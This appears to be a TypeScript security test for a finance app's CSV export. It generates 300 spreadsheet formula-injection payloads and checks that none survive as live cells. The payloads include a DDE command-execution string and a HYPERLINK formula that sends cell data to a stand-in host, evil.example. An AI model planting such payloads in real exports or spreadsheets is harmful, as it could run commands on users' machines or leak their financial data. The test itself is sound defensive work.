// Three hundred ways to begin a formula, in every text that a person or a bank can put into a spreadsheet of ours.
import { csvAmount, csvCell, csvHead, csvRows, csvTransactions } from "../../app/domain/books/csv";
import { incomeSpendingReport, type ReportRow } from "../../app/domain/screens/report";
import type { Program } from "./support/program";

const starts = ["=", "+", "-", "@", "|", "%", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];
const before = [
  "",
  " ",
  "\t",
  "\r",
  "\n",
  "\r\n",
  "\u0000",
  "\u0001=",
  "\uFEFF",
  "\u200B",
  "  \t",
  "\u00A0",
  "\u2003",
  "\uFEFF\uFEFF",
  "\u001F",
];
const after = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"x")'];
const payloads = starts.flatMap((start) => before.flatMap((lead) => after.map((rest) => `${lead}${start}${rest}`)));

export const program: Program = {
  name: "csv-formula",
  target: "0 live cells",
  async run() {
    const live: string[] = [];
    let cells = 0;
    for (const payload of payloads) {
      for (const place of ["merchantName", "description", "category", "account"] as const) {
        const row: ReportRow & { account: string } = {
          id: "1",
          merchantName: "Shop",
          merchantIcon: "cart",
          category: "groceries",
          kind: "spending",
          day: "2026-11-02",
          cents: -1234,
          pending: false,
          account: "Bank",
          [place]: payload,
        };
        for (const csv of [csvRows([row]), csvTransactions([row])]) {
          const parsed = parse(csv);
          cells += parsed.flat().length;
          for (const cell of parsed.flat()) if (isLive(cell) && cell !== "-12.34") live.push(JSON.stringify(cell));
          if (parsed.length !== 1 || !parsed[0]?.includes("-12.34"))
            live.push(`${JSON.stringify(payload)} breaks out of its cell`);
        }
      }
    }
    const report = incomeSpendingReport(
      "month",
      "2026-11-21",
      [],
      [{ month: "2026-11", category: "=1+1", kind: "spending", cents: -5, count: 1 }],
    );
    for (const cell of parse(csvHead(report)).flat())
      if (isLive(cell) && !/^-?[\d.]+%?$/.test(cell)) live.push(JSON.stringify(cell));
    // The check is checked: a cell written as it came must show, and a figure must stay a figure.
    const noticed = payloads.filter((payload) =>
      isLive(parse(`"${payload.replaceAll('"', '""')}"\r\n`)[0]?.[0] ?? ""),
    ).length;
    const figure = csvAmount(-1234) === "-12.34" && csvCell("plain") === '"plain"';
    return {
      value: `${live.length} live of ${cells} cells, ${payloads.length} payloads`,
      pass: live.length === 0 && payloads.length >= 300 && noticed === payloads.length && figure,
      notes: [`written as they come, ${noticed} of ${payloads.length} would run`, ...live.slice(0, 10)],
    };
  },
};

/** What a spreadsheet makes of a cell: it looks past what can't be seen, then for a sign that starts a formula. */
function isLive(cell: string): boolean {
  return /^[=+\-@|%\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell.replace(/^[\s\u0000-\u0020\u00A0\u2000-\u200D\uFEFF]+/, ""));
}

/** RFC 4180, as a reader of another house would do it. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let at = 0; at < text.length; at++) {
    const character = text[at] ?? "";
    if (quoted) {
      if (character !== '"') cell += character;
      else if (text[at + 1] === '"') cell += text[++at] ?? "";
      else quoted = false;
    } else if (character === '"') quoted = true;
    else if (character === ",") {
      row.push(cell);
      cell = "";
    } else if (character === "\r" && text[at + 1] === "\n") {
      rows.push([...row, cell]);
      [row, cell] = [[], ""];
      at++;
    } else cell += character;
  }
  return cell === "" && row.length === 0 ? rows : [...rows, [...row, cell]];
}
